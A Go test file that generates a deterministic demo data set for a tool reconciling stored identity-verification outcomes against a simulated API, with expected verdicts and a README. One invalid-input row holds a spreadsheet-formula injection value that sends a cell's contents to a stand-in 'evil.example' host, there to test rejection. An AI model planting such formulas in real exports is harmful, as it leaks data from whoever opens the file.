package simulator_test

// The demo data set (testdata/demo) is generated here, deterministically, so
// that it can be reviewed, regenerated and trusted:
//
//	go test ./simulator -run TestDemoData -update
//
// rewrites it; without -update the test fails when the committed files differ
// from what the generator makes. Every special case below states the kind a
// correct run must report for it; the generator does not compute kinds.

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"

	"github.com/unico-reconcile/unico-reconcile/simulator"
)

// The contract's kinds and the summary's count keys, in the contract's order.
var (
	demoKinds = []string{
		"lost_response", "status_mismatch", "result_mismatch", "not_found",
		"still_processing", "unverified", "invalid_input", "duplicate_id",
	}
	demoCountKeys = append([]string{"matched", "pending"}, demoKinds...)
)

// demoRows is how many rows saved.csv has.
const demoRows = 300

// rng is splitmix64: tiny, and fixed forever, unlike math/rand's helpers.
type rng struct{ s uint64 }

func (r *rng) next() uint64 {
	r.s += 0x9e3779b97f4a7c15
	z := r.s
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

func (r *rng) intn(n int) int         { return int(r.next() % uint64(n)) }
func (r *rng) between(lo, hi int) int { return lo + r.intn(hi-lo+1) }
func (r *rng) chance(pct int) bool    { return r.intn(100) < pct }

func (r *rng) uuid() string {
	var b [16]byte
	for i := range b {
		b[i] = byte(r.next())
	}
	b[6] = b[6]&0x0f | 0x40 // version 4
	b[8] = b[8]&0x3f | 0x80 // RFC 4122 variant
	h := fmt.Sprintf("%x", b[:])
	return h[0:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:32]
}

// savedAt returns a time between the first and the last day of the given
// months of 2026, in one of the forms an integrator's store might write.
func (r *rng) savedAt(fromMonth, toMonth int) string {
	month := r.between(fromMonth, toMonth)
	day, h, m, s := r.between(1, 28), r.between(0, 23), r.between(0, 59), r.between(0, 59)
	switch r.intn(4) {
	case 0:
		return fmt.Sprintf("2026-%02d-%02dT%02d:%02d:%02d-03:00", month, day, h, m, s)
	case 1:
		return fmt.Sprintf("2026-%02d-%02dT%02d:%02d:%02d.%03dZ", month, day, h, m, s, r.intn(1000))
	default:
		return fmt.Sprintf("2026-%02d-%02dT%02d:%02d:%02dZ", month, day, h, m, s)
	}
}

func ip(n int) *int { return &n }

// outcome is one side's view of a process; "" and nil mean absent.
type outcome struct {
	status                  int // 0: none stored
	unico, fraud            string
	serpro, liveness, score *int
}

// finished draws a plausible status 3 outcome as GET returns it.
func (r *rng) finished() outcome {
	o := outcome{status: 3}
	switch n := r.intn(100); {
	case n < 60:
		o.unico = "yes"
	case n < 75:
		o.unico = "no"
	default:
		o.unico = "inconclusive"
	}
	if r.chance(90) { // only GET carries it, not always
		o.fraud = "inconclusive"
		if r.chance(20) {
			o.fraud = "yes"
		}
	}
	if r.chance(85) {
		switch n := r.intn(100); {
		case n < 3:
			o.serpro = ip(-1)
		case n < 5:
			o.serpro = ip(-2)
		case o.unico == "yes":
			o.serpro = ip(r.between(70, 100))
		case o.unico == "no":
			o.serpro = ip(r.between(0, 55))
		default:
			o.serpro = ip(r.between(35, 85))
		}
	}
	switch o.unico { // liveness is left out when unicoId is yes
	case "no":
		o.liveness = ip(2)
		if r.chance(30) {
			o.liveness = ip(1)
		}
	case "inconclusive":
		o.liveness = ip(1)
		if r.chance(30) {
			o.liveness = ip(2)
		}
		if r.chance(70) {
			o.score = ip(r.between(-100, 100))
		}
	}
	return o
}

// stored is what an integrator kept of remote: the create response lacks
// identityFraudsters, and some stores drop serpro.
func (r *rng) stored(remote outcome) outcome {
	l := remote
	if r.chance(50) {
		l.fraud = ""
	}
	if r.chance(10) {
		l.serpro = nil
	}
	return l
}

// remoteJSON writes a body as the API does, in the API document's key order.
func remoteJSON(id string, o outcome, fault simulator.Fault) string {
	var b strings.Builder
	fmt.Fprintf(&b, `{"id":"%s","status":%d`, id, o.status)
	if o.unico != "" {
		fmt.Fprintf(&b, `,"unicoId":{"result":"%s"}`, o.unico)
	}
	if o.fraud != "" {
		fmt.Fprintf(&b, `,"identityFraudsters":{"result":"%s"}`, o.fraud)
	}
	if o.serpro != nil {
		fmt.Fprintf(&b, `,"government":{"serpro":%d}`, *o.serpro)
	}
	if o.liveness != nil {
		fmt.Fprintf(&b, `,"liveness":%d`, *o.liveness)
	}
	if o.score != nil {
		fmt.Fprintf(&b, `,"score":%d`, *o.score)
	}
	if fault != simulator.FaultNone {
		fmt.Fprintf(&b, `,"x-sim-fault":"%s"`, fault)
	}
	b.WriteByte('}')
	return b.String()
}

// demoRow is one row of saved.csv with the verdict a correct run gives it.
type demoRow struct {
	cells        [8]string // in saved.csv's column order
	kind         string
	remoteStatus string // as the API answered; "" when it did not
	fields       string // result_mismatch: name=local->remote;...
	note         string // why, for the README; "" for ordinary rows
}

var demoHeader = []string{"process_id", "status", "unico_id_result", "identity_fraudsters_result", "serpro_score", "liveness", "score", "saved_at"}

func str(p *int) string {
	if p == nil {
		return ""
	}
	return strconv.Itoa(*p)
}

func localCells(id string, l outcome, savedAt string) [8]string {
	status := ""
	if l.status != 0 {
		status = strconv.Itoa(l.status)
	}
	return [8]string{id, status, l.unico, l.fraud, str(l.serpro), str(l.liveness), str(l.score), savedAt}
}

// demo accumulates the data set.
type demo struct {
	r      *rng
	rows   []demoRow
	remote []string // lines of processes.jsonl
}

// add records a process: its saved row and, unless remote is nil, its line
// in processes.jsonl.
func (d *demo) add(kind, note string, id string, local outcome, savedAt string, remote *outcome, fault simulator.Fault, fields string) {
	row := demoRow{cells: localCells(id, local, savedAt), kind: kind, fields: fields, note: note}
	if remote != nil {
		d.remote = append(d.remote, remoteJSON(strings.ToLower(id), *remote, fault))
		if fault == simulator.FaultNone {
			row.remoteStatus = strconv.Itoa(remote.status)
		}
	}
	d.rows = append(d.rows, row)
}

func generateDemo() *demo {
	d := &demo{r: &rng{s: 20260301}}
	r := d.r
	final := func(status int) outcome {
		if status == 3 {
			return r.finished()
		}
		return outcome{status: status}
	}
	old := func() string { return r.savedAt(1, 6) } // far older than --stale-after
	const future = "2099-01-15T12:00:00Z"           // never stale

	// lost_response: no final result locally, final remotely.
	for _, local := range []int{0, 1, 2} {
		for _, remote := range []int{3, 4, 5} {
			rem := final(remote)
			saved := r.savedAt(1, 10)
			if local == 0 && remote == 4 {
				saved = "" // nothing stored at all, not even when
			}
			via := ""
			if remote == 5 {
				via = " (410)"
			}
			d.add("lost_response", fmt.Sprintf("local status %q, remote %d%s", outcome{status: local}.statusString(), remote, via),
				r.uuid(), outcome{status: local}, saved, &rem, "", "")
		}
	}
	for range 2 {
		rem := r.finished()
		d.add("lost_response", `local status "", remote 3 (a timeout after the platform finished)`, r.uuid(), outcome{}, r.savedAt(1, 10), &rem, "", "")
	}

	// status_mismatch: final locally, another status remotely.
	for _, c := range [][2]int{{3, 4}, {3, 5}, {4, 3}, {5, 3}, {5, 4}, {3, 1}, {4, 2}, {3, 2}} {
		loc, rem := final(c[0]), final(c[1])
		d.add("status_mismatch", fmt.Sprintf("local %d, remote %d", c[0], c[1]), r.uuid(), loc, r.savedAt(1, 10), &rem, "", "")
	}

	// result_mismatch: same final status, one stored field differs or is
	// absent remotely. Each case edits a plausible pair.
	yes := func() (outcome, outcome) {
		o := outcome{status: 3, unico: "yes", fraud: "inconclusive", serpro: ip(r.between(70, 100))}
		return o, o
	}
	inconclusive := func() (outcome, outcome) {
		o := outcome{status: 3, unico: "inconclusive", fraud: "inconclusive", serpro: ip(r.between(40, 80)), liveness: ip(1), score: ip(r.between(-60, 60))}
		return o, o
	}
	no := func() (outcome, outcome) {
		o := outcome{status: 3, unico: "no", fraud: "inconclusive", serpro: ip(r.between(0, 50)), liveness: ip(2)}
		return o, o
	}
	mismatch := func(note, fields string, loc, rem outcome) {
		d.add("result_mismatch", note, r.uuid(), loc, r.savedAt(1, 10), &rem, "", fields)
	}
	{
		loc, rem := yes()
		rem.unico, rem.liveness, rem.serpro = "no", ip(2), ip(31)
		loc.serpro = nil
		mismatch("unicoId.result yes -> no", "unicoId.result=yes->no", loc, rem)
	}
	{
		loc, rem := inconclusive()
		rem.unico, rem.liveness, rem.score, rem.serpro = "yes", nil, nil, ip(*loc.serpro+5)
		loc.liveness, loc.score = nil, nil
		mismatch("unicoId.result inconclusive -> yes and government.serpro changed (two fields)",
			fmt.Sprintf("unicoId.result=inconclusive->yes;government.serpro=%d->%d", *loc.serpro, *rem.serpro), loc, rem)
	}
	{
		loc, rem := yes()
		rem.fraud = "yes"
		mismatch("identityFraudsters.result inconclusive -> yes", "identityFraudsters.result=inconclusive->yes", loc, rem)
	}
	{
		loc, rem := yes()
		loc.fraud, rem.fraud = "yes", ""
		mismatch("identityFraudsters.result stored, absent remotely", "identityFraudsters.result=yes->", loc, rem)
	}
	{
		loc, rem := yes()
		loc.serpro, rem.serpro = ip(87), ip(72)
		mismatch("government.serpro 87 -> 72", "government.serpro=87->72", loc, rem)
	}
	{
		loc, rem := yes()
		loc.serpro, rem.serpro = ip(91), ip(-1)
		mismatch("government.serpro 91 -> -1 (no face on file)", "government.serpro=91->-1", loc, rem)
	}
	{
		loc, rem := no()
		loc.serpro, rem.serpro = ip(45), ip(-2)
		mismatch("government.serpro 45 -> -2 (Serpro lookup failed)", "government.serpro=45->-2", loc, rem)
	}
	{
		loc, rem := yes()
		loc.serpro, rem.serpro = ip(-1), ip(80)
		mismatch("government.serpro -1 -> 80", "government.serpro=-1->80", loc, rem)
	}
	{
		loc, rem := yes()
		loc.serpro, rem.serpro = ip(80), nil
		mismatch("government.serpro stored, absent remotely", "government.serpro=80->", loc, rem)
	}
	{
		loc, rem := no()
		loc.liveness, rem.liveness = ip(1), ip(2)
		mismatch("liveness 1 -> 2", "liveness=1->2", loc, rem)
	}
	{
		loc, rem := yes()
		loc.liveness = ip(2) // remote leaves liveness out, as it does for yes
		mismatch("liveness stored, absent remotely", "liveness=2->", loc, rem)
	}
	{
		loc, rem := inconclusive()
		loc.score, rem.score = ip(35), ip(-20)
		mismatch("score 35 -> -20", "score=35->-20", loc, rem)
	}
	{
		loc, rem := inconclusive()
		loc.score, rem.score = ip(10), nil
		mismatch("score stored, absent remotely", "score=10->", loc, rem)
	}
	{
		loc, rem := no()
		loc.serpro, rem.serpro = ip(38), ip(52)
		loc.liveness, rem.liveness = ip(2), ip(1)
		mismatch("government.serpro and liveness both differ", "government.serpro=38->52;liveness=2->1", loc, rem)
	}

	// not_found: the API does not know the process.
	for _, status := range []int{3, 3, 4, 0, 1} {
		loc := outcome{status: status}
		if status == 3 {
			loc = r.stored(r.finished())
		}
		d.add("not_found", fmt.Sprintf("local status %q, 404 (50001)", loc.statusString()), r.uuid(), loc, r.savedAt(1, 10), nil, "", "")
	}

	// still_processing and pending: both sides in progress, old or young.
	for _, c := range [][2]int{{1, 1}, {2, 2}, {1, 2}, {2, 1}, {0, 1}} {
		rem := outcome{status: c[1]}
		d.add("still_processing", fmt.Sprintf("local %q, remote %d, saved_at in the first half of 2026", outcome{status: c[0]}.statusString(), c[1]),
			r.uuid(), outcome{status: c[0]}, old(), &rem, "", "")
	}
	for _, c := range [][2]int{{1, 1}, {2, 2}, {1, 2}, {2, 1}, {0, 1}, {1, 1}} {
		rem := outcome{status: c[1]}
		d.add("pending", fmt.Sprintf("local %q, remote %d, saved_at in 2099", outcome{status: c[0]}.statusString(), c[1]),
			r.uuid(), outcome{status: c[0]}, future, &rem, "", "")
	}

	// unverified: no usable answer, whatever the retries.
	for _, f := range []simulator.Fault{simulator.FaultError, simulator.FaultMalformed, simulator.FaultWrongID, simulator.FaultReset} {
		rem := r.finished()
		d.add("unverified", fmt.Sprintf("x-sim-fault %q", f), r.uuid(), r.stored(rem), r.savedAt(1, 10), &rem, f, "")
	}

	// invalid_input: never sent. The ones with a valid id exist remotely, so
	// that a test can check they were not fetched.
	{
		r.finished() // keeps the generator's sequence, and so the committed data
		bad := []struct{ note, id, status, serpro, score, saved string }{
			{"process_id without dashes", strings.ReplaceAll(r.uuid(), "-", ""), "3", "", "", r.savedAt(1, 10)},
			{"process_id not a UUID", "PROC-2026-000123", "3", "", "", r.savedAt(1, 10)},
			{"process_id empty", "", "4", "", "", r.savedAt(1, 10)},
			{"process_id a spreadsheet formula", `=HYPERLINK("http://evil.example/?leak="&A1,"Click here")`, "3", "", "", r.savedAt(1, 10)},
		}
		for _, b := range bad {
			loc := localCells(b.id, outcome{}, b.saved)
			loc[1] = b.status
			d.rows = append(d.rows, demoRow{cells: loc, kind: "invalid_input", note: b.note})
		}
		for _, b := range []struct{ note, col, value string }{
			{"status 7", "status", "7"},
			{"serpro_score not a number", "serpro_score", "eighty"},
			{"score not a number", "score", "12abc"},
			{"saved_at not RFC 3339", "saved_at", "31/01/2026 10:00"},
		} {
			id := r.uuid()
			rem := r.finished()
			d.remote = append(d.remote, remoteJSON(id, rem, ""))
			cells := localCells(id, r.stored(rem), r.savedAt(1, 10))
			cells[slicesIndex(demoHeader, b.col)] = b.value
			d.rows = append(d.rows, demoRow{cells: cells, kind: "invalid_input", note: b.note})
		}
	}

	// Ordinary rows: they match. A few use an upper-case id, and one a status
	// 5 process whose data line holds results the 410 must not show.
	var matches []int
	for len(d.rows) < demoRows-3-2 { // 3 duplicates and 2 special matches follow
		var rem outcome
		switch n := r.intn(100); {
		case n < 85:
			rem = r.finished()
		case n < 95:
			rem = outcome{status: 4}
		default:
			rem = outcome{status: 5}
		}
		loc := rem
		if rem.status == 3 {
			loc = r.stored(rem)
		}
		id := r.uuid()
		note := ""
		if len(matches) < 3 {
			id, note = strings.ToUpper(id), "process_id in upper case"
		}
		matches = append(matches, len(d.rows))
		d.add("match", note, id, loc, r.savedAt(1, 10), &rem, "", "")
	}
	{
		id, rem := r.uuid(), r.finished()
		rem.status = 5
		d.remote = append(d.remote, remoteJSON(id, rem, ""))
		d.rows = append(d.rows, demoRow{cells: localCells(id, outcome{status: 5}, r.savedAt(1, 10)), kind: "match", remoteStatus: "5",
			note: "local 5, remote 410 although the data line carries results"})
	}
	{
		id, rem := r.uuid(), r.finished()
		rem.fraud = "suspicious"
		loc := rem
		loc.fraud = ""
		d.add("match", `identityFraudsters "suspicious" remotely (a value one page lists), not stored locally`, id, loc, r.savedAt(1, 10), &rem, "", "")
	}

	// Shuffle, then repeat three matching rows somewhere after their first
	// appearance: an exact copy, an older save of the same process, and the
	// id in upper case.
	for i := len(d.rows) - 1; i > 0; i-- {
		j := r.intn(i + 1)
		d.rows[i], d.rows[j] = d.rows[j], d.rows[i]
	}
	var firsts []int
	for i, row := range d.rows {
		if row.kind == "match" && row.note == "" && row.cells[1] == "3" && len(firsts) < 3 && i > 20 {
			firsts = append(firsts, i)
		}
	}
	var dups []demoRow
	for k, i := range firsts {
		dup := d.rows[i]
		dup.kind, dup.fields, dup.remoteStatus = "duplicate_id", "", ""
		switch k {
		case 0:
			dup.note = "exact copy of an earlier row"
		case 1:
			dup.cells[1], dup.cells[2], dup.cells[3], dup.cells[4], dup.cells[5], dup.cells[6] = "1", "", "", "", "", ""
			dup.note = "same id saved again with status 1"
		case 2:
			dup.cells[0] = strings.ToUpper(dup.cells[0])
			dup.note = "same id in upper case"
		}
		dups = append(dups, dup)
	}
	for k := len(dups) - 1; k >= 0; k-- { // from the back, so earlier indexes hold
		at := firsts[k] + 1 + r.intn(len(d.rows)-firsts[k])
		d.rows = append(d.rows[:at], append([]demoRow{dups[k]}, d.rows[at:]...)...)
	}

	// The API also knows processes the integrator never stored.
	for range 8 {
		rem := r.finished()
		d.remote = append(d.remote, remoteJSON(r.uuid(), rem, ""))
	}
	for i := len(d.remote) - 1; i > 0; i-- {
		j := r.intn(i + 1)
		d.remote[i], d.remote[j] = d.remote[j], d.remote[i]
	}
	return d
}

func (o outcome) statusString() string {
	if o.status == 0 {
		return ""
	}
	return strconv.Itoa(o.status)
}

func slicesIndex(xs []string, x string) int {
	for i, v := range xs {
		if v == x {
			return i
		}
	}
	panic("no column " + x)
}

// counts returns the expected summary counts: total, matched, pending and
// one per kind.
func (d *demo) counts() map[string]int {
	c := map[string]int{"total": len(d.rows)}
	for _, k := range demoCountKeys {
		c[k] = 0
	}
	for _, row := range d.rows {
		k := row.kind
		if k == "match" {
			k = "matched"
		}
		c[k]++
	}
	return c
}

// files renders the data set: name -> content.
func (d *demo) files() map[string][]byte {
	files := map[string][]byte{}

	var jsonl bytes.Buffer
	for _, line := range d.remote {
		jsonl.WriteString(line + "\n")
	}
	files["processes.jsonl"] = jsonl.Bytes()

	saved := &bytes.Buffer{}
	w := csv.NewWriter(saved)
	_ = w.Write(demoHeader)
	for _, row := range d.rows {
		_ = w.Write(row.cells[:])
	}
	w.Flush()
	files["saved.csv"] = saved.Bytes()

	exp := &bytes.Buffer{}
	w = csv.NewWriter(exp)
	_ = w.Write([]string{"row", "process_id", "kind", "local_status", "remote_status", "fields"})
	for i, row := range d.rows {
		_ = w.Write([]string{strconv.Itoa(i + 2), row.cells[0], row.kind, row.cells[1], row.remoteStatus, row.fields})
	}
	w.Flush()
	files["expected.csv"] = exp.Bytes()

	counts := d.counts()
	var cj bytes.Buffer
	cj.WriteString("{\n")
	keys := append([]string{"total"}, demoCountKeys...)
	for i, k := range keys {
		sep := ","
		if i == len(keys)-1 {
			sep = ""
		}
		fmt.Fprintf(&cj, "  %q: %d%s\n", k, counts[k], sep)
	}
	cj.WriteString("}\n")
	files["expected_counts.json"] = cj.Bytes()

	files["README.md"] = d.readme(counts)
	return files
}

func (d *demo) readme(counts map[string]int) []byte {
	var b bytes.Buffer
	b.WriteString(`# Demo data

What ` + "`unico-reconcile demo`" + ` (and ` + "`make demo`" + `) reconciles: the simulator serves
` + "`processes.jsonl`" + ` and ` + "`run`" + ` reads ` + "`saved.csv`" + `. Generated, do not edit by hand:

    go test ./simulator -run TestDemoData -update

| file | what it is |
| --- | --- |
| ` + "`processes.jsonl`" + ` | what the simulated API knows: one body per line as the API returns it, some with an ` + "`x-sim-fault`" + ` (see the simulator's package doc) |
| ` + "`saved.csv`" + ` | the integrator's stored outcomes, the contract's columns |
| ` + "`expected.csv`" + ` | the verdict a correct run gives each row of ` + "`saved.csv`" + `: ` + "`row`" + ` (the CSV record number, header = 1), ` + "`process_id`" + ` as stored, ` + "`kind`" + ` (` + "`match`" + `, ` + "`pending`" + ` or a discrepancy kind), ` + "`local_status`" + ` (the status cell as stored), ` + "`remote_status`" + ` (as answered, 5 for a 410; empty for ` + "`not_found`" + `, ` + "`unverified`" + `, ` + "`invalid_input`" + ` and ` + "`duplicate_id`" + `) and, for ` + "`result_mismatch`" + `, ` + "`fields`" + ` as the report writes them (API order) |
| ` + "`expected_counts.json`" + ` | the ` + "`counts`" + ` object ` + "`summary.json`" + ` must hold after a run with the default flags |

Every special case is pinned by hand in the generator; the remaining rows are
plausible matching outcomes (status 3 mostly, with the results a real tenant
sees: ` + "`liveness`" + ` left out when ` + "`unicoId`" + ` is ` + "`yes`" + `, a ` + "`score`" + ` with some
` + "`inconclusive`" + ` ones, ` + "`identityFraudsters`" + ` stored for about half the rows because
the create response lacks it). ` + "`saved_at`" + ` dates are fixed in 2026, so processes
still in progress then are stale on any later run; the ` + "`pending`" + ` ones are saved in
2099 so that they never are.

Notes for a run on this data:
- The ` + "`unverified`" + ` rows fail on every attempt (500, malformed body, wrong id,
  reset), so each costs ` + "`--max-retries`" + ` retries and their back-off; run the demo with
  a short back-off or few retries if it must be quick. Exit code 3.
- The ` + "`invalid_input`" + ` rows with a valid id exist in ` + "`processes.jsonl`" + `: a correct run
  never requests them (` + "`Server.RequestsFor`" + ` is 0).
- A ` + "`duplicate_id`" + ` row's id is fetched once, for its first appearance, which counts
  as ` + "`match`" + `; the one written in upper case is the same UUID.

## Expected counts

| kind | count |
| --- | ---: |
`)
	fmt.Fprintf(&b, "| total | %d |\n", counts["total"])
	for _, k := range demoCountKeys {
		fmt.Fprintf(&b, "| %s | %d |\n", k, counts[k])
	}
	b.WriteString("\n## Special cases\n")
	byKind := map[string][]string{}
	rowOf := map[string][]int{}
	first := map[string]int{} // lower-case id -> row of its first appearance
	for i, row := range d.rows {
		id := strings.ToLower(row.cells[0])
		note := row.note
		if row.kind == "duplicate_id" {
			note += fmt.Sprintf(" (first at row %d)", first[id])
		} else if _, seen := first[id]; !seen && id != "" {
			first[id] = i + 2
		}
		if note != "" {
			byKind[row.kind] = append(byKind[row.kind], note)
			rowOf[row.kind] = append(rowOf[row.kind], i+2)
		}
	}
	for _, k := range append([]string{"match"}, append([]string{"pending"}, demoKinds...)...) {
		if len(byKind[k]) == 0 {
			continue
		}
		fmt.Fprintf(&b, "\n### %s\n", k)
		for i, note := range byKind[k] {
			fmt.Fprintf(&b, "- row %d: %s\n", rowOf[k][i], note)
		}
	}
	return b.Bytes()
}
